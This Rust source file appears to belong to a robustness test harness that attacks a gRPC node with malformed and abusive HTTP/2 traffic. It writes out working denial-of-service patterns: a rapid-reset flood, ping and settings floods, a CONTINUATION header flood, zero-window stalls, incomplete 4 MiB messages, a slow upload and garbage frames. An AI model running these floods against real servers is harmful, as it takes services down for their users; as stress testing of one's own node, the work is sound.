//! HTTP/2 that no client library would send.

use std::time::Duration;

use super::{Case, cases};
use crate::frames::*;
use crate::victim::{Verdict, Victim};

const READ_LIMIT: Duration = Duration::from_secs(20);
/// A stream is given up.
const RESET: u8 = 3;
const PRIORITY: u8 = 2;
const WINDOW_UPDATE: u8 = 8;

pub(super) fn cases() -> Vec<Case> {
    cases! { "frames":
        short "answers that nobody reads, without a window" unread_answers;
        short "100,000 requests, given up at once" reset_flood;
        short "a million pings" ping_flood;
        short "100,000 settings" settings_flood;
        short "a million frames without data" empty_data_flood;
        long "a million window updates and priorities" other_floods;
        short "headers without an end" endless_headers;
        short "messages that are none" invalid_messages;
        short "messages of 4 MiB that never become whole" half_messages;
        long "a message of 4 MiB, a byte at a time" slow_upload;
        short "bytes that are no frames" no_frames;
    }
}

/// Does something that waits on sockets, on a thread for that.
async fn blocking(victim: &Victim, work: impl FnOnce(&str) -> Verdict + Send + 'static) -> Verdict {
    let grpc = victim.addresses.grpc.clone();
    tokio::task::spawn_blocking(move || work(&grpc)).await.map_err(|error| error.to_string())?
}

fn number(number: usize) -> u32 {
    u32::try_from(number).expect("streams are few")
}

/// A message of Protocol Buffers with two texts, framed as gRPC requires.
fn message(fields: &[(u8, &str)]) -> Vec<u8> {
    let mut content = Vec::new();
    for (field, text) in fields {
        content.push(field << 3 | 2);
        let mut length = text.len();
        while length >= 0x80 {
            content.push((length & 0x7f) as u8 | 0x80);
            length >>= 7;
        }
        content.push(length as u8);
        content.extend(text.as_bytes());
    }
    [message_prefix(number(content.len())), content].concat()
}

/// A window of zero: the node may answer with headers alone.
fn without_window() -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[&4_u16.to_be_bytes()[..], &0_u32.to_be_bytes()].concat())
}

async fn unread_answers(victim: Victim) -> Verdict {
    let xml = "<definitions xmlns=\"https://www.omg.org/spec/DMN/20191111/MODEL/\" id=\"answers\" name=\"answers\" namespace=\"n\">\
         <decision id=\"echo\" name=\"echo\"><variable name=\"echo\"/><literalExpression><text>\
         (for i in 1..19 return if i = 1 then \"xxxxxxxx\" else partial[-1] + partial[-1])[-1]</text></literalExpression>\
         </decision></definitions>";
    victim.deploy("echo.dmn", xml).await.map_err(|status| status.to_string())?;
    let open = blocking(&victim, |grpc| {
        let mut open = Vec::new();
        for _ in 0..5 {
            let mut raw = Raw::open(grpc);
            raw.send(&without_window());
            let ask = message(&[(2, "echo"), (3, "{}")]);
            for stream in (1..400).step_by(2) {
                let request = [request(stream, "EvaluateDecision"), frame(DATA, 1, stream, &ask)].concat();
                if !raw.send(&request) {
                    break;
                }
            }
            open.push(raw);
        }
        std::thread::sleep(Duration::from_secs(5));
        Ok(format!("{} connections", open.len()))
    });
    let said = open.await?;
    Ok(format!("{said}, at most {}", victim.addresses.peak()))
}

/// Sends this many pieces on one connection; returns how many were taken before the node closed it.
async fn flood(victim: &Victim, count: usize, piece: impl Fn(usize) -> Vec<u8> + Send + 'static) -> Verdict {
    blocking(victim, move |grpc| {
        let mut raw = Raw::open(grpc);
        let taken = (0..count).take_while(|number| raw.send(&piece(*number))).count();
        Ok(format!("{taken} of {count} were taken"))
    })
    .await
}

async fn reset_flood(victim: Victim) -> Verdict {
    flood(&victim, 100_000, |round| {
        let stream = 2 * number(round) + 1;
        let ask = frame(DATA, 1, stream, &message_prefix(0));
        [request(stream, "Topology"), ask, frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat()
    })
    .await
}

async fn ping_flood(victim: Victim) -> Verdict {
    flood(&victim, 10_000, |_| frame(PING, 0, 0, &[1; 8]).repeat(100)).await
}

async fn settings_flood(victim: Victim) -> Verdict {
    flood(&victim, 1_000, |_| frame(SETTINGS, 0, 0, &[]).repeat(100)).await
}

async fn empty_data_flood(victim: Victim) -> Verdict {
    flood(&victim, 10_000, |round| match round {
        0 => request(1, "CreateProcessInstance"),
        _ => frame(DATA, 0, 1, &[]).repeat(100),
    })
    .await
}

async fn other_floods(victim: Victim) -> Verdict {
    flood(&victim, 10_000, |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]).repeat(100)).await?;
    flood(&victim, 10_000, |_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(100)).await
}

async fn endless_headers(victim: Victim) -> Verdict {
    let some: Vec<u8> = (0..100).flat_map(|number| header(&format!("x-{number}"), &"x".repeat(100))).collect();
    flood(&victim, 10_000, move |round| match round {
        0 => frame(HEADERS, 0, 1, &some),
        _ => frame(CONTINUATION, 0, 1, &some),
    })
    .await
}

async fn invalid_messages(victim: Victim) -> Verdict {
    blocking(&victim, |grpc| {
        let texts: [&[u8]; 6] = [
            &[0, 0, 0, 0, 2, 0x0a, 0xff],
            &[0, 0, 0, 0, 2, 0x0f, 0x00],
            &[0, 0, 0, 0, 4, 0x0a, 0x02, 0xff, 0xfe],
            &[9, 0, 0, 0, 0],
            &[1, 0, 0, 0, 1, 7],
            &[0, 0xff, 0xff, 0xff, 0xff, 0],
        ];
        for text in texts {
            let mut raw = Raw::open(grpc);
            raw.wait_at_most(READ_LIMIT);
            raw.send(&[request(1, "CreateProcessInstance"), frame(DATA, 1, 1, text)].concat());
            if !raw.is_answered() {
                return Err(format!("no answer to {text:?}"));
            }
        }
        Ok("six answers".to_owned())
    })
    .await
}

async fn half_messages(victim: Victim) -> Verdict {
    blocking(&victim, |grpc| {
        let mut open = Vec::new();
        for _ in 0..10 {
            let mut raw = Raw::open(grpc);
            for stream in (1..200).step_by(2) {
                raw.send(&request(stream, "DeployResource"));
                raw.send(&frame(DATA, 0, stream, &[message_prefix(4 << 20), vec![0; 10_000]].concat()));
            }
            open.push(raw);
        }
        std::thread::sleep(Duration::from_secs(3));
        Ok(format!("{} connections", open.len()))
    })
    .await
}

async fn slow_upload(victim: Victim) -> Verdict {
    blocking(&victim, |grpc| {
        let mut raw = Raw::open(grpc);
        raw.send(&[request(1, "DeployResource"), frame(DATA, 0, 1, &message_prefix(4 << 20))].concat());
        let taken = (0..100)
            .take_while(|_| {
                std::thread::sleep(Duration::from_millis(100));
                raw.send(&frame(DATA, 0, 1, &[0]))
            })
            .count();
        Ok(format!("{taken} bytes in ten seconds"))
    })
    .await
}

async fn no_frames(victim: Victim) -> Verdict {
    blocking(&victim, |grpc| {
        let garbage: Vec<u8> = (0..10_000_u32).map(|number| (number.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
        let opened = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        let texts = [
            garbage.clone(),
            [&opened[..], &garbage].concat(),
            [&opened[..], &frame_of_length(0xff_ffff, DATA, 0, 1, &[0; 100])].concat(),
            [&opened[..], &frame(DATA, 0, 0, &[0; 10])].concat(),
            [&opened[..], &frame(HEADERS, END_HEADERS, 1, &[0xff; 100])].concat(),
            [&opened[..], &frame(SETTINGS, 0, 0, &[0; 5])].concat(),
            b"GET / HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(),
        ];
        for (number, text) in texts.iter().enumerate() {
            for _ in 0..10 {
                let mut raw = Raw::connect(grpc);
                raw.wait_at_most(READ_LIMIT);
                raw.send(text);
                if raw.read_to_end().is_none() {
                    return Err(format!("the connection of text {number} stays open"));
                }
            }
        }
        Ok(format!("{} texts, ten times each", texts.len()))
    })
    .await
}
